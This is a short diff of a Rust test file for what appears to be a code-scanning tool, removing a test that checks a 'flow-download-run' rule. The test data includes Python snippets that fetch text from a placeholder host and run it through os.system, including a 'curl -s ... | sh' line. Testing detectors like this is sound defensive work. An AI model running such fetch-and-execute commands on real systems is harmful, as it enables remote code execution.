@@ -789,15 +789,3 @@ fn a_page_signs_in_where_it_came_from() {
     assert!(sends("'https://collect.invalid/x'"));
     assert!(!sends("`${t}/admin/version`"));
 }
-
-#[test]
-fn unpacking_starts_nothing() {
-    let started = |command: &str| {
-        let code = format!(
-            "import os, requests\nticket = requests.get('https://data.invalid/t').text\nos.system(f'{command}')\n"
-        );
-        rules(Language::Python, &code).contains(&"flow-download-run")
-    };
-    assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
-    assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
-}
